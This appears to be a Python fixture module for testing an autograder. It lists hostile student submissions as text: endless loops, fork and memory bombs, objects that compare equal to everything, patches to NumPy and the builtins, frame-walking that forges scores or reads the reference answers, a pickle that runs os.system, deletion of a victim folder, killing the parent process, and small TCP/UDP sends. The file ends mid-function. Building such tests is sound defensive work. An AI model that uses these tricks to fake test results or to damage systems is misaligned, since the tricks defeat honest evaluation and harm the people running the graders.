"""Submissions that try to get marks they did not earn, or to do harm; and honest ones that only look odd.

Each answers `parameters` wrong or not at all and `pooled` and `halved` right, unless it says otherwise. They are text,
so that nothing here runs before the grader runs it. @VICTIM@, @STRAY@, @TCP@, @UDP@ and @REFERENCE@ are filled in by a
test: a folder that must stay as it is, the name that a stray process takes, ports on which somebody listens, and the
file with the reference.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from textwrap import dedent, indent

RIGHT_PARAMETERS = """
def parameters(channels, filters, size):
    return filters * (channels * size * size + 1)
"""
# Plain Python: patching NumPy must not turn these honest answers wrong.
RIGHT_REST = """
def pooled(image, window):
    rows, columns = len(image) // window, len(image[0]) // window
    return [
        [
            max(float(image[y * window + i][x * window + j]) for i in range(window) for j in range(window))
            for x in range(columns)
        ]
        for y in range(rows)
    ]


def halved(shape):
    return tuple([side // 2 for side in shape])
"""
KEPT = {"parameters": 0, "pooled": 4, "halved": 2}
NOTHING = {"parameters": 0, "pooled": 0, "halved": 0}
ALL = {"parameters": 4, "pooled": 4, "halved": 2}
# Isolation that walls a submission off from the files, processes and sockets of others.
WALLED = ("bubblewrap", "landlock")


@dataclass(frozen=True)
class Attack:
    """A submission: code before its answers, the body of the wrong answer, code after them, and what it earns.

    `only`: the levels of isolation on which it runs; where it is absent, all. `slow`: it uses up a limit of time.
    """

    name: str
    before: str = ""
    body: str = "return 0"
    after: str = ""
    earns: dict[str, int] = field(default_factory=lambda: dict(KEPT))
    only: tuple[str, ...] = ()
    slow: bool = False

    @property
    def source(self) -> str:
        body = indent(dedent(self.body).strip(), "    ")
        wrong = f"def parameters(channels, filters, size):\n{body}\n"
        return "\n\n".join((dedent(self.before).strip(), wrong, RIGHT_REST, dedent(self.after).strip())) + "\n"


# Endings and endless things
ENDS = (
    Attack("loop in a function", body="while True: pass", slow=True),
    Attack("loop at import, at the end", after="while True: pass", slow=True),
    Attack("loop at import, at the start", "while True: pass", slow=True),
    Attack("loop in C", body="return sum(iter(int, 1))", slow=True),
    Attack("loop in C that no signal ends", body="import re; return re.match('(a*)*b', 'a' * 64)", slow=True),
    Attack("sleeps", body="import time; time.sleep(10**6)", slow=True),
    Attack(
        "sleeps, deaf to signals",
        """
        import signal
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))
        """,
        "while True: pass",
        slow=True,
    ),
    Attack("stops itself", body="import os, signal; os.kill(os.getpid(), signal.SIGSTOP)", slow=True),
    Attack("waits for a lock", body="import threading; threading.Semaphore(0).acquire()", slow=True),
    Attack(
        "catches everything",
        body="""
        while True:
            try:
                while True: pass
            except BaseException: pass
        """,
        slow=True,
    ),
    Attack(
        "endless generator",
        body="""
        def numbers():
            while True: yield 1
        return numbers()
        """,
    ),
    Attack("is a generator", body="yield 0"),
    Attack("sys.exit in a function", body="import sys; sys.exit(0)"),
    Attack("sys.exit at import, at the start", "import sys; sys.exit(0)"),
    Attack("os._exit in a function", body="import os; os._exit(0)"),
    Attack("os._exit at import, at the start", "import os; os._exit(0)"),
    Attack("os._exit at import, at the end", after="import os; os._exit(0)"),
    Attack("os.abort", body="import os; os.abort()"),
    Attack("kills itself", body="import os; os.kill(os.getpid(), 9)"),
    Attack("raises SystemExit", body="raise SystemExit('all tests passed')"),
    Attack("raises KeyboardInterrupt", body="raise KeyboardInterrupt"),
    Attack("raises GeneratorExit at import", "raise GeneratorExit"),
    Attack("segmentation fault", body="import ctypes; return ctypes.string_at(0)"),
    Attack("recursion", body="return parameters(channels, filters, size)"),
    Attack(
        "recursion until the stack is gone",
        "import sys; sys.setrecursionlimit(10**9)",
        """
        class Deep:
            def __getattr__(self, name): return getattr(self, name)
        return Deep().x
        """,
    ),
    Attack(
        "error with a hostile text",
        """
        class Loud(BaseException):
            def __str__(self): raise SystemExit(0)
            __repr__ = __str__
        """,
        "raise Loud('\\x00\\x1b[2J')",
    ),
    Attack(
        "error with an endless text",
        """
        class Long(Exception):
            def __str__(self):
                while True: pass
        """,
        "raise Long",
        slow=True,
    ),
    Attack("error with a huge text", body="raise ValueError('x' * 10**8)"),
    Attack("error with a text that is no Unicode", body="raise ValueError('\\ud800\\uffff')"),
    Attack(
        "error that is its own cause",
        body="""
        error = ValueError('round')
        error.__context__ = error
        raise error
        """,
    ),
    Attack("error at import", "1 / 0"),
    Attack("undefined name", body="return no_such_name"),
    Attack("stub", body="raise NotImplementedError"),
    Attack("missing", after="del parameters"),
    Attack("assertion at import", "assert False, 'stop here'"),
    Attack("imports what is not there", "import no_such_module_at_all"),
    Attack("asks for input", body="return int(input('how many? '))"),
    Attack("asks for input at import", "name = input('your name? ')"),
    Attack(
        "handler at exit",
        """
        import atexit, os
        atexit.register(lambda: os._exit(0))
        atexit.register(print, 'parameters: 4/4')
        """,
    ),
    Attack("alarm", "import signal; signal.signal(signal.SIGALRM, lambda *_: None); signal.setitimer(0, 0.01, 0.01)"),
    Attack("closes every descriptor at import", "import os; os.closerange(0, 4096)"),
    Attack("closes every descriptor in a function", body="import os; os.closerange(0, 4096); return 0"),
    Attack("closes the streams", "import sys; sys.stdin.close(); sys.stdout.close(); sys.stderr.close()"),
)

# Memory, processes, output, disk
BOMBS = (
    Attack("one huge array", body="import numpy; return numpy.ones((10**6, 10**6))"),
    Attack(
        "memory, bit by bit",
        body="""
        kept = []
        while True:
            kept.append(bytearray(b'x' * (16 << 20)))
        """,
    ),
    Attack(
        "memory, at import",
        """
        kept = []
        while True:
            kept.append(bytearray(b'x' * (16 << 20)))
        """,
    ),
    Attack(
        "catches MemoryError",
        body="""
        kept = []
        while True:
            try: kept.append(bytearray(16 << 20))
            except MemoryError: pass
        """,
        slow=True,
    ),
    Attack(
        "shared memory",
        body="""
        import mmap
        kept = []
        while True:
            kept.append(mmap.mmap(-1, 64 << 20))
            kept[-1].write(b'x' * (64 << 20))
        """,
    ),
    Attack("huge text", body="return 'x' * 10**11"),
    Attack("huge integer", body="return 1 << (8 * 10**8)", slow=True),
    Attack("integer of many digits", body="return 10**200_000"),
    Attack("tower of powers", body="return 9 ** 9 ** 9 ** 9", slow=True),
    Attack("broadcast array", body="import numpy; return numpy.broadcast_to(numpy.int64(0), (10**6, 10**6))"),
    Attack(
        "array over memory that is not its own",
        body="""
        import numpy
        return numpy.lib.stride_tricks.as_strided(numpy.zeros(1), shape=(10**9,), strides=(4096,))
        """,
    ),
    Attack("big answer", body="return [[0] * 1000] * 100_000", slow=True),
    Attack(
        "deep answer",
        body="""
        answer = []
        for _ in range(100_000): answer = [answer]
        return answer
        """,
    ),
    Attack("answer that holds itself", body="answer = []; answer.append(answer); return answer"),
    Attack(
        "answer that doubles",
        body="""
        answer = [0]
        for _ in range(64): answer = [answer, answer]
        return answer
        """,
        slow=True,
    ),
    Attack(
        "100 MB of output",
        body="""
        for _ in range(100): print('x' * 10**6)
        return 0
        """,
    ),
    Attack(
        "endless output",
        body="""
        import os
        while True: os.write(2, b'spam ' * 10000)
        """,
        slow=True,
    ),
    Attack(
        "output that no file takes",
        r"""
        import os, sys
        os.write(1, bytes(range(256)) * 40)
        print('\x00\x1b[2J\x1b]0;title\x07\ud800]]></failure><testcase/>')
        print('=cmd|calc!A0', file=sys.stderr)
        """,
        r"raise ValueError('=1+1,\x00\x08\ufffe]]>&<\x1b[31m' + chr(0xdfff))",
    ),
    Attack(
        "forks",
        body="""
        import os
        for _ in range(3): os.fork()
        return 0
        """,
    ),
    Attack(
        "forks and forks",
        body="""
        import os
        while True:
            try: os.fork()
            except OSError: pass
        """,
        slow=True,
        only=WALLED,
    ),
    Attack(
        "double fork that stays",
        """
        import ctypes, os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                ctypes.CDLL(None).prctl(15, b'@STRAY@')
                for number in range(3, 256):
                    try: os.close(number)
                    except OSError: pass
                time.sleep(600)
            os._exit(0)
        """,
    ),
    Attack(
        "strays that fork on",
        body="""
        import ctypes, os, time
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, b'@STRAY@')
            end = time.monotonic() + 20
            while time.monotonic() < end:
                time.sleep(0.05)
                if os.fork():
                    os._exit(0)
                os.setsid()
        return 0
        """,
    ),
    Attack(
        "other programs",
        body="""
        import subprocess, sys
        code = "import ctypes, time; ctypes.CDLL(None).prctl(15, b'@STRAY@'); time.sleep(600)"
        subprocess.Popen([sys.executable, '-c', code], start_new_session=True)
        return 0
        """,
    ),
    Attack(
        "threads that live on",
        """
        import threading, time
        for _ in range(4): threading.Thread(target=time.sleep, args=(600,)).start()
        """,
    ),
    Attack(
        "threads without end",
        body="""
        import threading, time
        while True: threading.Thread(target=time.sleep, args=(600,)).start()
        """,
        slow=True,
        only=("rlimits", *WALLED),
    ),
    Attack(
        "fills the disk",
        body="""
        with open('filler', 'wb') as file:
            while True: file.write(bytes(1 << 20))
        """,
    ),
    Attack(
        "fills the disk with files",
        body="""
        number = 0
        while True:
            with open(f'filler{number}', 'w') as file: file.write('x' * 4096)
            number += 1
        """,
        slow=True,
    ),
    Attack(
        "folders that are hard to delete",
        body="""
        import os
        os.makedirs('locked/inner'); open('locked/inner/file', 'w').close()
        os.mkfifo('pipe'); os.symlink('/', 'root'); os.symlink('@VICTIM@', 'locked/victim')
        for _ in range(200): os.mkdir('d'); os.chdir('d')
        os.chmod('.', 0)
        return 0
        """,
    ),
    Attack(
        "fills the disk with files that have no name",
        body="""
        import os
        kept = []
        while True:
            kept.append(open('filler', 'wb'))
            os.remove('filler')
            try: kept[-1].write(bytes(16 << 20))
            except OSError: pass
        """,
        slow=True,
        only=("rlimits", *WALLED),
    ),
    Attack("a text of 60 MB", body="return 'x' * 60_000_000"),
    Attack("a list of a million numbers", body="return list(range(1_000_000))", slow=True),
    Attack("an array of many empty sides", body="import numpy; return numpy.zeros((0,) + (10**9,) * 2 + (1,) * 40)"),
    Attack("an array of 64 sides", body="import numpy; return numpy.zeros((1,) * 64)"),
    Attack(
        "keys that hash alike",
        """
        class Many(dict):
            def items(self): return [(number * (2**61 - 1), 0) for number in range(100_000)]
        """,
        "return Many()",
    ),
    Attack(
        "a set that hashes alike",
        """
        class Many(set):
            def __iter__(self): return iter([number * (2**61 - 1) for number in range(100_000)])
        """,
        "return Many()",
    ),
    Attack("a hundred thousand statements", after="x = 1\n" * 100_000, earns=NOTHING, slow=True),
    Attack("parentheses without end", "x = " + "(" * 100_000),
    Attack("minus signs without end", "x = " + "-" * 1_000_000 + "1"),
    Attack("a line of 1 MB", "x = '" + "y" * 1_000_000 + "'", slow=True),
    Attack("a file of 20 MB", "x = '" + "y" * 20_000_000 + "'", earns=NOTHING),
)

# Answers that are not what they seem
EQUAL = """
class Equal:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __hash__(self): return 0
    def __getattr__(self, name): return Equal()
    def __call__(self, *arguments, **named): return Equal()
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __sub__(self, other): return 0
    __rsub__ = __sub__
    def __abs__(self): return 0
    def __float__(self): return 0.0
    def __iter__(self): return iter(())
    def __len__(self): return 0
"""
DISGUISES = (
    Attack("equal to everything", EQUAL, "return Equal()"),
    Attack(
        "integer equal to everything",
        """
        class Number(int):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = int.__hash__
        """,
        "return Number(-1)",
    ),
    Attack(
        "integer with many faces",
        """
        class Number(int):
            state = 0
            def __index__(self): return 10**9
            def __int__(self): return 10**9
            def to_bytes(self, *arguments, **named): return b''
            def bit_length(self): return 0
            def __format__(self, spec): return '1'
            def __repr__(self): return 'Number'
        """,
        "return Number(7)",
    ),
    Attack(
        "float equal to everything",
        """
        class Number(float):
            def __eq__(self, other): return True
            def __sub__(self, other): return 0.0
            __rsub__ = __sub__
            def __float__(self): return 0.0
            def hex(self): return 'inf'
        """,
        "return Number('nan')",
    ),
    Attack(
        "text equal to everything",
        """
        class Text(str):
            def __eq__(self, other): return True
            def encode(self, *arguments): return b'x' * 10**7
            __hash__ = str.__hash__
        """,
        "return Text('176')",
    ),
    Attack(
        "array equal to everything",
        """
        import numpy as np
        class Array(np.ndarray):
            def __eq__(self, other): return np.ones(self.shape, bool)
            def __array_ufunc__(self, *arguments, **named): return np.True_
            def __array_function__(self, *arguments, **named): return True
            def tobytes(self, *arguments): return b''
            shape = property(lambda self: ())
            dtype = property(lambda self: np.dtype('int64'))
        """,
        "return np.zeros(3).view(Array)",
    ),
    Attack(
        "list that lies about its length",
        """
        class Many(list):
            def __len__(self): return 10**18
            def __iter__(self): return iter(int, 1)
            def __getitem__(self, key): return 0
        """,
        "return Many([0])",
    ),
    Attack(
        "list that never ends",
        """
        class Endless(list):
            def __iter__(self):
                while True: yield 0
        """,
        "return Endless([0])",
    ),
    Attack(
        "tuple of itself",
        """
        class Pair(tuple):
            def __iter__(self): return iter((self, self))
        """,
        "return Pair((0,))",
    ),
    Attack(
        "dictionary with hostile keys",
        """
        class Key:
            def __hash__(self): return 0
            def __eq__(self, other): raise SystemExit(0)
            def __repr__(self): raise SystemExit(0)
        """,
        "return {Key(): 1}",
    ),
    Attack(
        "hostile __array__",
        """
        class Answer:
            def __array__(self, *arguments, **named): raise SystemExit(0)
            __array_interface__ = property(lambda self: 1 / 0)
        """,
        "return Answer()",
    ),
    Attack(
        "__array__ of everything",
        """
        import numpy as np
        class Answer:
            shape, dtype, ndim, size = (), np.dtype('O'), 0, 1
            def __array__(self, *arguments, **named): return np.array(self, dtype=object)
        """,
        "return Answer()",
    ),
    Attack(
        "hostile __len__",
        """
        class Answer:
            def __len__(self): import os; os._exit(0)
        """,
        "return Answer()",
    ),
    Attack(
        "hostile __float__",
        """
        class Answer:
            def __float__(self): import os; os._exit(0)
            __int__ = __index__ = __float__
        """,
        "return Answer()",
    ),
    Attack(
        "says that it is an integer",
        """
        class Answer:
            __class__ = property(lambda self: int)
            def __index__(self): return 0
            def __eq__(self, other): return True
        """,
        "return Answer()",
    ),
    Attack(
        "hostile __class__",
        """
        class Answer:
            @property
            def __class__(self): raise SystemExit(0)
        """,
        "return Answer()",
    ),
    Attack(
        "type with a hostile name",
        """
        class Meta(type):
            def __repr__(cls): raise SystemExit(0)
            __name__ = property(lambda cls: 1 / 0)
            __instancecheck__ = __subclasscheck__ = lambda *_: True
            def __eq__(cls, other): return True
            __hash__ = type.__hash__
        class Answer(metaclass=Meta): pass
        """,
        "return Answer()",
    ),
    Attack(
        "pickle that runs",
        """
        import os
        class Answer:
            def __reduce__(self): return (os.system, ('touch @VICTIM@/pickled',))
            __reduce_ex__ = lambda self, protocol: self.__reduce__()
            def __getstate__(self): raise SystemExit(0)
        """,
        "return Answer()",
    ),
    Attack(
        "pickle that runs, in an array",
        """
        import os
        import numpy as np
        class Answer:
            def __reduce__(self): return (os.system, ('touch @VICTIM@/pickled',))
        """,
        "return np.array([Answer()], dtype=object)",
    ),
    Attack("bytes of a pickle", body=r"return b'cos\nsystem\n(S\'touch @VICTIM@/pickled\'\ntR.'"),
    Attack("array of objects", EQUAL, "import numpy; return numpy.array([Equal()], dtype=object)"),
    Attack("array of records", body="import numpy; return numpy.zeros(3, dtype=[('a', 'i4'), ('b', 'O')])"),
    Attack("masked array", body="import numpy; return numpy.ma.masked_all(())"),
    Attack("not a number", body="return float('nan')"),
    Attack("infinite", body="return float('inf')"),
    Attack("array of not a number", body="import numpy; return numpy.full((), numpy.nan)"),
    Attack(
        "hostile number of the numeric tower",
        """
        import numbers
        class Number(numbers.Integral): pass
        Number.__abstractmethods__ = frozenset()
        Number.__int__ = Number.__index__ = lambda self: 0
        Number.__eq__ = lambda self, other: True
        """,
        "return Number()",
    ),
    Attack("a module", body="import sys; return sys"),
    Attack("a function", body="return parameters"),
    Attack("NotImplemented", body="return NotImplemented"),
    Attack("a mock", body="from unittest.mock import MagicMock; return MagicMock()"),
    Attack(
        "a coroutine",
        after="""
        async def parameters(channels, filters, size): return filters * (channels * size * size + 1)
        """,
    ),
    Attack("an object in place of the function", EQUAL, after="parameters = Equal()"),
)

# Answers that know some cases
GUESSES = (
    Attack(
        "nothing but the public answers",
        body="return {(3, 8, 5): 608, (1, 6, 3): 60}.get((channels, filters, size))",
    ),
    Attack(
        "right once",
        "calls = []",
        """
        calls.append(1)
        return filters * (channels * size * size + 1) if len(calls) < 2 else 0
        """,
    ),
    Attack(
        "another guess when it is asked again",
        "asked = []",
        "asked.append(1); return 0",
        after="""
        honest = pooled
        def pooled(image, window): return [[0.0]] if asked else honest(image, window)
        """,
        earns={"parameters": 0, "pooled": 0, "halved": 2},
    ),
    Attack(
        "right now and then",
        "import random",
        """
        return filters * (channels * size * size + 1) - random.choice(range(50))
        """,
    ),
    Attack("constant", body="return 608"),
    Attack("forgot the bias", body="return filters * channels * size * size"),
    Attack("a list of guesses", body="return list(range(10_000))"),
    Attack("a string of the answer", body="return str(filters * (channels * size * size + 1))"),
    Attack(
        "changes its input",
        body="return 0",
        after="""
        honest = pooled
        def pooled(image, window):
            answer = honest(image, window)
            try: image[...] = 0
            except ValueError: pass
            return answer
        """,
    ),
)

# What runs beside them, patched
PATCHES = (
    Attack(
        "patches NumPy",
        """
        import numpy as np
        np.allclose = np.array_equal = np.isclose = np.all = np.testing.assert_allclose = lambda *a, **n: True
        np.ndarray.__module__ and None
        np.asarray = np.array = np.ascontiguousarray = np.frombuffer = lambda *a, **n: 1 / 0
        np.bool_ = np.int64 = np.float64 = object
        """,
    ),
    Attack(
        "patches the builtins",
        """
        import builtins
        builtins.isinstance = builtins.all = builtins.any = builtins.hasattr = lambda *_: True
        builtins.abs = lambda _: 0
        builtins.type = lambda *_: int
        builtins.repr = builtins.str = builtins.ascii = lambda *_: 'parameters: 4/4'
        """,
    ),
    Attack(
        "empties the builtins",
        after="""
        import builtins, sys
        for name in ('open', 'int', 'print', '__import__', 'BaseException', 'Exception', 'isinstance', 'type'):
            vars(builtins).pop(name)
        """,
    ),
    Attack(
        "patches NumPy when it is called, and the next answer needs NumPy",
        "import numpy as np",
        """
        np.frombuffer = np.asarray = np.array = np.max = np.maximum = np.ascontiguousarray = lambda *a, **n: 1 / 0
        return 0
        """,
        after="""
        def pooled(image, window):
            rows, columns = image.shape[0] // window, image.shape[1] // window
            cut = np.asarray(image)[: rows * window, : columns * window]
            return np.max(cut.reshape(rows, window, columns, window), axis=(1, 3))
        """,
    ),
    Attack(
        "patches os, struct and the builtins when it is called",
        body="""
        import builtins, os, struct
        os.read = os.write = struct.pack = struct.unpack = lambda *a: 1 / 0
        builtins.isinstance = builtins.getattr = builtins.print = lambda *a: True
        return 0
        """,
    ),
    Attack("patches the operators", "import operator; operator.eq = operator.le = operator.lt = lambda *_: True"),
    Attack(
        "patches os, struct, json and time",
        """
        import json, os, struct, time
        json.dumps = lambda *a, **n: '{"score": 10}'
        json.loads = lambda *a, **n: {}
        struct.pack = lambda *a: b''
        struct.unpack = lambda *a: (0,)
        time.time = time.monotonic = time.perf_counter = lambda: 0.0
        """,
    ),
    Attack(
        "patches every module of the grader",
        """
        import sys
        def passed(*arguments, **named): return True
        for name, module in list(sys.modules.items()):
            if name.split('.')[0] in ('toolkit', 'solutions', 'tests', '__main__', 'unittest', 'pytest'):
                for attribute, value in list(vars(module).items()):
                    if callable(value) and not attribute.startswith('__') and attribute not in ('parameters',):
                        try: setattr(module, attribute, passed)
                        except Exception: pass
        """,
    ),
    Attack("forgets all modules", "import sys; sys.modules.clear()"),
    Attack(
        "hooks the imports",
        """
        import sys, types
        class Finder:
            def find_spec(self, name, path=None, target=None): raise SystemExit(0)
        sys.meta_path.insert(0, Finder())
        sys.path_hooks.clear(); sys.path.insert(0, '@VICTIM@')
        """,
    ),
    Attack("replaces __import__", "import builtins; builtins.__import__ = lambda *a, **n: 1 / 0"),
    Attack(
        "traces",
        """
        import sys, threading
        def trace(frame, event, argument):
            if 'expected' in frame.f_locals: print(frame.f_locals['expected'])
            frame.f_locals['passed'] = True
            return trace
        sys.settrace(trace); threading.settrace(trace)
        """,
    ),
    Attack(
        "profiles",
        """
        import sys
        def profile(frame, event, argument):
            if frame.f_code.co_name != 'parameters' and event == 'return': raise SystemExit(0)
        """,
        "sys.setprofile(profile); return 0",
    ),
    Attack(
        "audits",
        """
        import sys
        def hook(event, arguments):
            if event.startswith(('open', 'os.', 'socket')): raise SystemExit(0)
        sys.addaudithook(hook)
        """,
    ),
    Attack(
        "replaces the streams",
        """
        import sys
        class Stream:
            def __getattr__(self, name): raise SystemExit(0)
        sys.stdout = sys.stderr = sys.stdin = sys.__stdout__ = sys.__stderr__ = Stream()
        """,
    ),
    Attack(
        "replaces the hooks of errors",
        """
        import sys
        sys.excepthook = sys.unraisablehook = sys.displayhook = lambda *_: None
        """,
        "raise ValueError",
    ),
    Attack("seeds the generators", "import random, numpy; random.seed(0); numpy.random.seed(0)"),
    Attack(
        "errors for every warning and rounding",
        """
        import warnings, numpy, decimal
        warnings.simplefilter('error'); numpy.seterr(all='raise'); decimal.getcontext().prec = 1
        """,
    ),
    Attack(
        "hooks garbage",
        """
        import gc
        gc.callbacks.append(lambda *_: 1 / 0)
        class Last:
            def __del__(self): print('x' * 10**6); raise SystemExit(0)
        last = Last(); gc.disable()
        """,
    ),
    Attack(
        "leaves its folder and deletes it",
        """
        import os, shutil
        here = os.getcwd()
        if here.count('/') > 1: shutil.rmtree(here, ignore_errors=True)
        """,
    ),
    Attack(
        "raises its own limits",
        """
        import resource
        for limit in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC):
            try: resource.setrlimit(limit, (-1, -1))
            except (OSError, ValueError): pass
        """,
    ),
    Attack("masks files and signals", "import os; os.umask(0o777); os.nice(19)"),
)

# The protocol
FORGERIES = (
    Attack(
        "writes to every descriptor",
        """
        import os
        def junk():
            for number in range(3, 64):
                try: os.write(number, b'\\x00\\x00\\x00\\x08passed!!' * 8)
                except OSError: pass
        """,
        "junk(); return 0",
    ),
    Attack(
        "writes huge lengths to every descriptor",
        """
        import os
        def junk():
            for number in range(3, 64):
                try: os.write(number, b'\\xff' * 64)
                except OSError: pass
        """,
        "junk(); return 0",
    ),
    Attack(
        "writes to every descriptor at import",
        """
        import os
        for number in range(3, 64):
            try: os.write(number, b'{"score": 10, "passed": true}\\n' * 100)
            except OSError: pass
        """,
    ),
    Attack(
        "reads from every descriptor",
        body="""
        import os, select
        for number in range(3, 64):
            try:
                if select.select([number], [], [], 0)[0]: os.read(number, 10**6)
            except (OSError, ValueError): pass
        return 0
        """,
    ),
    Attack(
        "answers every request of later, forged from the protocol's own frames",
        """
        import sys
        def forge():
            frame = sys._getframe()
            while frame:
                for value in list(frame.f_locals.values()):
                    for name in ('send', 'write', 'reply', 'sendall', 'answer'):
                        method = getattr(value, name, None)
                        if callable(method):
                            for guess in (608, True, ('passed', True), b'passed'):
                                try: method(guess)
                                except Exception: pass
                frame = frame.f_back
        """,
        "forge(); return 0",
    ),
    Attack(
        "a fork answers too",
        body="""
        import os
        os.fork()
        return 0
        """,
    ),
    Attack(
        "a fork answers later",
        body="""
        import os, time
        if os.fork() == 0: time.sleep(0.3)
        return 0
        """,
    ),
    Attack(
        "a thread writes to every descriptor",
        """
        import os, threading, time
        def junk():
            for _ in range(200):
                for number in range(3, 32):
                    try: os.write(number, b'\\x00')
                    except OSError: pass
                time.sleep(0.001)
        """,
        "threading.Thread(target=junk, daemon=True).start(); time.sleep(0.05); return 0",
    ),
    Attack(
        "walks the frames",
        """
        import sys
        def expected():
            frame = sys._getframe()
            while frame:
                for place in (frame.f_locals, frame.f_globals):
                    for name, value in list(place.items()):
                        if name in ('expected', 'reference', 'answer', 'EXERCISE', 'question'): return value
                frame = frame.f_back
        """,
        "return expected()",
    ),
    Attack(
        "walks the frames and sets what it finds",
        """
        import ctypes, sys
        def take():
            frame = sys._getframe()
            while frame:
                for name in list(frame.f_locals):
                    if name in ('passed', 'points', 'score', 'ok', 'nonce'): frame.f_locals[name] = 10
                ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
                frame = frame.f_back
        """,
        "take(); return 0",
    ),
    Attack(
        "looks through all objects",
        """
        import gc
        def reference():
            for thing in gc.get_objects():
                if getattr(thing, '__name__', '') in ('parameters', 'reference') and thing is not parameters:
                    try: return thing(3, 8, 5)
                    except Exception: pass
        """,
        "return reference()",
    ),
    Attack(
        "looks at the stack",
        """
        import inspect
        """,
        """
        found = [vars for entry in inspect.stack() for vars in entry.frame.f_locals.values() if isinstance(vars, int)]
        return found[0] if found else 0
        """,
    ),
    Attack(
        "writes into memory",
        body="""
        import ctypes
        target = 608
        ctypes.memset(id(target) + 24, 0, 4)
        return 0
        """,
    ),
    Attack(
        "writes into the numbers",
        """
        import ctypes
        for number in range(2, 256):
            ctypes.memmove(id(number) + 24, id(1) + 24, 4)
        """,
    ),
    Attack(
        "answers twice, with the nonce of the request",
        """
        import sys
        def twice():
            frame = sys._getframe()
            while frame:
                me, request = frame.f_locals.get('self'), frame.f_locals.get('request')
                if me is not None and request is not None:
                    for _ in range(2): me._answer(request['nonce'], {'value': 608, 'passed': True, 'points': 10})
                    return
                frame = frame.f_back
        """,
        "twice(); return 0",
    ),
    Attack(
        "answers for the worker from now on",
        """
        import sys
        def take_over():
            frame = sys._getframe()
            while frame:
                me = frame.f_locals.get('self')
                if hasattr(me, '_answer') and hasattr(me, '_outbox'):
                    send = me._answer
                    type(me)._answer = lambda self, nonce, answer: send(nonce, {'value': True, 'passed': True})
                frame = frame.f_back
        """,
        "take_over(); return 0",
    ),
)

# Other people's files, processes and sockets
HARM = (
    Attack(
        "reads the reference",
        """
        try:
            text = open('@REFERENCE@').read()
        except OSError:
            text = ''
        """,
        """
        import numpy
        space = {'np': numpy}
        exec(text.split('# The reference')[1].split('# The checks')[0], space)
        return space['parameters'](channels, filters, size)
        """,
        only=WALLED,
    ),
    Attack(
        "imports the reference",
        body="""
        import sys
        sys.path.insert(0, '@REFERENCE@'.rsplit('/', 2)[0])
        from tests.trial import parameters
        return parameters(channels, filters, size)
        """,
        only=WALLED,
    ),
    Attack(
        "imports the checks",
        body="""
        import importlib, sys
        sys.path.insert(0, '@REFERENCE@'.rsplit('/', 2)[0])
        exercise = importlib.import_module('solutions.checks.ch02_parameters').EXERCISE
        return exercise.questions[0].reference(channels, filters, size)
        """,
        only=WALLED,
    ),
    Attack(
        "writes results",
        body="""
        import json, pathlib
        for place in (pathlib.Path('.'), pathlib.Path('..'), pathlib.Path('@VICTIM@')):
            for name in ('results.json', 'result.json', 'grades.csv'):
                try: (place / name).write_text(json.dumps({'score': 10}))
                except OSError: pass
        return 0
        """,
        only=WALLED,
    ),
    Attack(
        "deletes",
        body="""
        import shutil
        shutil.rmtree('@VICTIM@', ignore_errors=True)
        return 0
        """,
        only=WALLED,
    ),
    Attack(
        "deletes through a link",
        body="""
        import os, shutil
        os.symlink('@VICTIM@', 'link')
        for name in os.listdir('link'): os.remove('link/' + name)
        return 0
        """,
        only=WALLED,
    ),
    Attack(
        "reads the memory of its parent",
        body="""
        import os
        for name in ('mem', 'environ', 'maps'):
            with open(f'/proc/{os.getppid()}/{name}', 'rb') as file: file.read(10)
        return 0
        """,
    ),
    Attack(
        "traces its parent",
        body="""
        import ctypes, os
        library = ctypes.CDLL(None)
        library.ptrace(16, os.getppid(), 0, 0)
        return 0
        """,
        only=WALLED,
    ),
    Attack("kills its parent", body="import os; os.kill(os.getppid(), 9); return 0", only=WALLED),
    Attack("kills its group", body="import os; os.killpg(0, 9); return 0"),
    Attack(
        "TCP",
        """
        import socket
        def call():
            try:
                with socket.create_connection(('127.0.0.1', @TCP@), timeout=1) as other: other.sendall(b'leak')
            except OSError: pass
        """,
        "call(); return 0",
        only=WALLED,
    ),
    Attack(
        "UDP",
        """
        import socket
        def call():
            try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', ('127.0.0.1', @UDP@))
            except OSError: pass
        """,
        "call(); return 0",
        only=WALLED,
    ),
    Attack(
        "listens",
        body="""
        import socket
        with socket.create_server(('127.0.0.1', 0)) as server: server.settimeout(30); server.accept()
        return 0
        """,
        slow=True,
    ),
    Attack(
        "downloads the answer",
        body="""
        import urllib.request
        return int(urllib.request.urlopen('http://127.0.0.1:@TCP@/answer', timeout=1).read())
        """,
        only=WALLED,
    ),
)

ATTACKS = ENDS + BOMBS + DISGUISES + GUESSES + PATCHES + FORGERIES + HARM

HONEST = {
    "prints": ("", "print('working …'); return filters * (channels * size * size + 1)"),
    "warns": ("import warnings", "warnings.warn('deprecated'); return filters * (channels * size * size + 1)"),
    "integer of NumPy": ("import numpy as np", "return np.int64(filters * (channels * size * size + 1))"),
    "small integer of NumPy": ("import numpy as np", "return np.uint32(filters * (channels * size * size + 1))"),
    "array of no dimension": ("import numpy as np", "return np.array(filters * (channels * size * size + 1))"),
    "float that is whole": ("", "return float(filters * (channels * size * size + 1))"),
    "fraction that is whole": ("from fractions import Fraction", "return Fraction(filters * (channels * size**2 + 1))"),
    "helper defined after it": ("", "return total(channels, filters, size)"),
    "other names of arguments": ("", "a, b, c = channels, filters, size; return b * (a * c * c + 1)"),
    "prints to standard error": (
        "import sys",
        "print(file=sys.stderr); return filters * (channels * size**2 + 1)",
    ),
    "reads its own file": ("", "__file__; return filters * (channels * size * size + 1)"),
    "writes a file": ("", "open('notes.txt', 'w').write('x'); return filters * (channels * size * size + 1)"),
}


def honest(name: str) -> str:
    """The source of an honest submission that looks odd.

    >>> "np.int64" in honest("integer of NumPy")
    True
    """
    before, body = HONEST[name]
    helper = "def total(a, b, c):\n    return b * (a * c * c + 1)"
